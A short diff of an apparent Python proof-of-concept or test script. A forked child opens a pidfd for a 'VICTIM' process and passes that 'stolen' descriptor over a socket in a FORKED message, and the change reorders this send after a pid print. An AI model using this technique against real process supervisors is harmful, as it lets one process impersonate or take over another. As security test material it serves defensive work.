@@ -32,8 +32,8 @@ if os.fork() == 0:
     socket.send_fds(template, [struct.pack("<I", READY)], [os.pidfd_open(os.getpid())])
     stolen = os.pidfd_open(VICTIM)
     _, serial, _ = struct.unpack("<III", socket.recv_fds(template, 64, 8)[0])
-    socket.send_fds(template, [struct.pack("<III", FORKED, serial, VICTIM)], [stolen])
     say(f"{os.getpid()}")
+    socket.send_fds(template, [struct.pack("<III", FORKED, serial, VICTIM)], [stolen])
     while True:
         time.sleep(1000)
 while True:
